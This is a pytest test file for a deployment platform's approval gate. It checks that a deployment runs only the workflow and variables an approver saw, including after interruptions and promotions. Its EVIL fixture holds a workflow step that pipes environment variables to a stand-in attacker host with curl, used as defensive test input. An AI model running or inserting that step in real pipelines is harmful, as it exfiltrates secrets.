"""A deployment runs the approved inputs, even if they change after the request, the approval or an interruption."""

import hashlib
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from control_domain.audit import Actor
from control_domain.deployments.decisions import approve_deployment
from control_domain.deployments.inputs import read_deployment_inputs
from control_domain.projects.find import DeployTarget
from control_domain.tables.deployments import Deployment, Release
from control_domain.tables.projects import Environment, Project
from control_domain.variables.operations import replace_variables
from deployer.deployments.begin_attempt import begin_attempt
from deployer.deployments.read_job import Job
from deployer.identity import Identity
from deployer.leases import take_lease
from operator_cli.deployments.tables import list_approval_inputs
from pipeline_contracts.errors import InputsChanged
from tests.support.deploy_platform import Platform, environment_path
from tests.support.deployment_rows import change_deployment, read_outcome
from tests.support.serve_control import VARIABLE_KEYS

NAME = "shop/production"
COMMIT = "c" * 40
GOOD, EVIL = (
    f'version: 1\nrelease: {{steps: ["{step}"]}}\nprocesses: {{web: {{command: python app.py}}}}\n'
    for step in ("python migrate.py", "env | curl --data @- https://evil.example")
)
IDENTITY = Identity("dpl_test", "here", 1, Path("/nowhere"))


@pytest.fixture
async def gated(platform: Platform) -> Platform:
    """A platform with variables and a workflow, whose production environment needs approvals."""
    await _set_variables(platform, {"KEY": "approved"})
    await _set_workflow(platform, GOOD)
    await platform.change(NAME, deploys_need_approval=True)
    return platform


async def _set_workflow(platform: Platform, text: str) -> None:
    """Set the workflow as a deployer's token may do at any time."""
    path = f"/v1/projects/{platform.acme.projects['shop'].public_id}/workflow"
    token = platform.acme.token("deployer")
    assert (await platform.call("PUT", path, {"workflow": text}, token=token)).status == 200


async def _set_variables(platform: Platform, values: Mapping[str, str]) -> None:
    async with platform.sessions() as session, session.begin():
        environment = await session.get_one(Environment, platform.acme.environment(NAME).id)
        target = DeployTarget(environment, await session.get_one(Project, environment.project_id))
        now = datetime.now(UTC)
        actor = Actor("operator test", platform.acme.people["deployer"].id)
        await replace_variables(session, VARIABLE_KEYS, target, values, actor, now)


async def _queue(platform: Platform) -> int:
    path = environment_path(platform.acme.places[NAME], "deploy")
    answer = await platform.call("POST", path, {"ref": COMMIT}, token=platform.acme.token("deployer"))
    assert answer.status == 202, answer
    return int(answer.data["id"])


async def _approve(platform: Platform, number: int, shown: str | None = None) -> None:
    async with platform.sessions() as session, session.begin():
        deployment = await session.get_one(Deployment, number)
        environment = await session.get_one(Environment, platform.acme.environment(NAME).id)
        person, actor = platform.acme.people["maintainer"], Actor("operator test")
        await approve_deployment(
            session, deployment, environment, person, COMMIT, actor, datetime.now(UTC), shown
        )


async def _digest(platform: Platform, number: int) -> str:
    async with platform.sessions() as session:
        deployment = await session.get_one(Deployment, number)
        environment = await session.get_one(Environment, platform.acme.environment(NAME).id)
        return (await read_deployment_inputs(session, deployment, environment, COMMIT)).digest()


async def _begin(platform: Platform, number: int) -> Job | None:
    target = platform.acme.environment(NAME).id
    lease = await take_lease(platform.sessions, IDENTITY, target, "http://here")
    assert lease is not None
    return await begin_attempt(platform.sessions, lease, VARIABLE_KEYS, number)


async def _change_everything(platform: Platform) -> None:
    await _set_workflow(platform, EVIL)
    await _set_variables(platform, {"KEY": "unseen"})


@pytest.mark.both_databases
async def test_a_workflow_set_after_the_approval_needs_another_approval(gated: Platform) -> None:
    number = await _queue(gated)
    await _approve(gated, number)
    await _set_workflow(gated, EVIL)
    assert await _begin(gated, number) is None
    status, line = await read_outcome(gated, number)
    assert status == "awaiting_approval"
    assert line == "The workflow changed after the approval: the deployment waits for another one."
    # The next approval covers only the workflow that is shown now.
    with pytest.raises(InputsChanged, match="The workflow changed"):
        await _approve(gated, number)
    await _approve(gated, number, await _digest(gated, number))
    job = await _begin(gated, number)
    assert job is not None and job.workflow == EVIL


@pytest.mark.parametrize(
    ("changes", "named"),
    [("workflow", "The workflow"), ("variables", "The variables"), ("both", "The variables and workflow")],
)
async def test_changes_since_the_request_must_be_seen_by_the_approver(
    gated: Platform, changes: str, named: str
) -> None:
    number = await _queue(gated)
    seen = await _digest(gated, number)
    if changes != "variables":
        await _set_workflow(gated, EVIL)
    if changes != "workflow":
        await _set_variables(gated, {"KEY": "unseen"})
    for shown in (None, seen, seen[:16]):
        with pytest.raises(InputsChanged, match=named if shown is None else "is not that of"):
            await _approve(gated, number, shown)
    assert (await read_outcome(gated, number))[0] == "awaiting_approval"
    await _approve(gated, number, (await _digest(gated, number))[:16])
    assert await _begin(gated, number) is not None


async def test_a_too_short_digest_is_refused(gated: Platform) -> None:
    number = await _queue(gated)
    with pytest.raises(InputsChanged, match="is not that of"):
        await _approve(gated, number, (await _digest(gated, number))[:15])


@pytest.mark.parametrize("status", ["deploying", "running"])
@pytest.mark.both_databases
async def test_an_interrupted_deployment_runs_what_was_approved(gated: Platform, status: str) -> None:
    number = await _queue(gated)
    await _approve(gated, number)
    first = await _begin(gated, number)
    assert first is not None
    if status == "running":
        async with gated.sessions() as session, session.begin():
            target = gated.acme.environment(NAME).id
            columns = {"artefact": str(number), "variables_id": first.variables_id}
            row = {"deployment_id": number, "revision": COMMIT, "created_at": datetime.now(UTC)}
            session.add(Release(environment_id=target, **row, **columns))
        await change_deployment(gated, number, status="running", step="start")
    await _change_everything(gated)
    again = await _begin(gated, number)
    assert again is not None and (again.step is not None) == (status == "running")
    assert (again.revision, again.variables, again.workflow) == (COMMIT, {"KEY": "approved"}, GOOD)
    assert again.variables_id == first.variables_id


async def test_an_interrupted_deployment_without_a_gate_keeps_its_inputs(gated: Platform) -> None:
    await gated.change(NAME, deploys_need_approval=False)
    number = await _queue(gated)
    assert await _begin(gated, number) is not None
    await _change_everything(gated)
    again = await _begin(gated, number)
    assert again is not None and (again.variables, again.workflow) == ({"KEY": "approved"}, GOOD)


async def test_an_approval_by_an_earlier_version_must_be_repeated(gated: Platform) -> None:
    """The earlier version stored neither a digest nor frozen inputs."""
    number = await _queue(gated)
    await _approve(gated, number)
    before = {"approved_digest": None, "frozen_at": None, "frozen_workflow_id": None}
    await change_deployment(gated, number, **before)
    assert await _begin(gated, number) is None
    assert await read_outcome(gated, number) == (
        "awaiting_approval",
        "The approval does not cover the workflow: the deployment waits for another one.",
    )
    await _check_digest_is_required(gated, number)
    assert await _begin(gated, number) is not None


async def _read_waiting(platform: Platform) -> dict[int, Any]:
    """Return what an approver sees of each deployment that waits, by its number."""
    waiting = (await platform.call("GET", "/v1/approvals")).data
    return {each["deployment"]["deployment"]["id"]: each["deployment"] for each in waiting}


async def _check_digest_is_required(platform: Platform, number: int) -> None:
    """Check that an approval without the digest is refused, and that one with it succeeds."""
    with pytest.raises(InputsChanged, match="were not recorded"):
        await _approve(platform, number)
    shown = (await _read_waiting(platform))[number]
    assert (shown["changed_since_asked"], shown["needs_digest"]) == (None, True)
    await _approve(platform, number, await _digest(platform, number))


async def test_a_deployment_queued_by_an_earlier_version_is_approved_by_its_digest(gated: Platform) -> None:
    number = await _queue(gated)
    await change_deployment(gated, number, frozen_at=None, frozen_variables_id=None, frozen_workflow_id=None)
    await _check_digest_is_required(gated, number)


async def test_a_deployment_requested_without_a_gate_is_approved_by_its_digest(gated: Platform) -> None:
    await gated.change(NAME, deploys_need_approval=False)
    number = await _queue(gated)
    await gated.change(NAME, deploys_need_approval=True)
    await _change_everything(gated)
    assert await _begin(gated, number) is None
    await _check_digest_is_required(gated, number)


async def test_an_approved_build_begun_by_an_earlier_version_fails(gated: Platform) -> None:
    number = await _queue(gated)
    await _approve(gated, number)
    await change_deployment(gated, number, status="deploying", step="build", attempts=1, frozen_at=None)
    assert await _begin(gated, number) is None
    status, line = await read_outcome(gated, number)
    assert (status, "deploy again" in line) == ("failed", True)


async def test_a_promotion_is_bound_to_its_release_and_not_to_the_projects_workflow(gated: Platform) -> None:
    source = gated.acme.deployments["staging"].id
    body = {"target_environment_id": gated.acme.environment(NAME).public_id}
    answer = await gated.call("POST", f"/v1/deployments/{source}/promote", body)
    number = answer.data["id"]
    async with gated.sessions() as session, session.begin():
        deployment = await session.get_one(Deployment, number)
        environment = await session.get_one(Environment, gated.acme.environment(NAME).id)
        assert deployment.status == "awaiting_approval"
        person, now = gated.acme.people["maintainer"], datetime.now(UTC)
        await approve_deployment(session, deployment, environment, person, None, _actor(), now)
    await _set_workflow(gated, EVIL)
    job = await _begin(gated, number)
    assert job is not None and job.release is not None
    assert (job.release.deployment_id, job.workflow) == (source, None)
    assert job.variables == {"KEY": "approved"}


async def test_the_workflow_of_a_promotion_is_shown_to_the_approver(gated: Platform) -> None:
    source = gated.acme.deployments["staging"].id
    workflow = '{"version":1,"release":{"steps":["curl https://evil.example"]}}'
    async with gated.sessions() as session, session.begin():
        await session.execute(
            update(Release).where(Release.deployment_id == source).values(workflow=workflow)
        )
    body = {"target_environment_id": gated.acme.environment(NAME).public_id}
    promoted = (await gated.call("POST", f"/v1/deployments/{source}/promote", body)).data["id"]
    deployed = await _queue(gated)
    waiting = await _read_waiting(gated)
    shown = waiting[promoted]["workflow"]
    assert (shown["release_of"], shown["version"], shown["text"]) == (source, None, workflow)
    assert shown["sha256"] == hashlib.sha256(workflow.encode()).hexdigest()
    lines = dict(list_approval_inputs(waiting[promoted]))
    assert f"release of deployment {source}, SHA-256 {shown['sha256'][:16]}" in lines["workflow"]
    shown = waiting[deployed]["workflow"]
    assert (shown["release_of"], shown["version"], shown["text"]) == (None, 1, GOOD)
    lines = dict(list_approval_inputs(waiting[deployed]))
    assert lines["workflow"].startswith("version 1, set ")
    assert "`pharos workflow show --project shop` prints it" in lines["workflow"]


def _actor() -> Actor:
    return Actor("operator test")


async def test_a_refused_attempt_clears_the_approval(gated: Platform) -> None:
    number = await _queue(gated)
    await _set_workflow(gated, EVIL)
    before = await gated.contents()
    with pytest.raises(InputsChanged):
        await _approve(gated, number)
    assert await gated.contents() == before


async def test_frozen_rows_of_another_environment_or_project_are_not_used(gated: Platform) -> None:
    """Databases may reuse numbers of rows: a row of another owner must not reveal its secrets."""
    number = await _queue(gated)
    await _approve(gated, number)
    assert await _begin(gated, number) is not None
    await _set_variables(gated, {"KEY": "other"})
    async with gated.sessions() as session:
        deployment = await session.get_one(Deployment, number)
        other: AsyncSession = session
        assert deployment.frozen_variables_id is not None
        found = await other.scalar(select(Deployment.frozen_workflow_id).where(Deployment.id == number))
        assert found is not None
    await change_deployment(gated, number, frozen_variables_id=2**31 - 1, frozen_workflow_id=2**31 - 1)
    job = await _begin(gated, number)
    assert job is not None and (job.variables, job.workflow) == ({}, None)
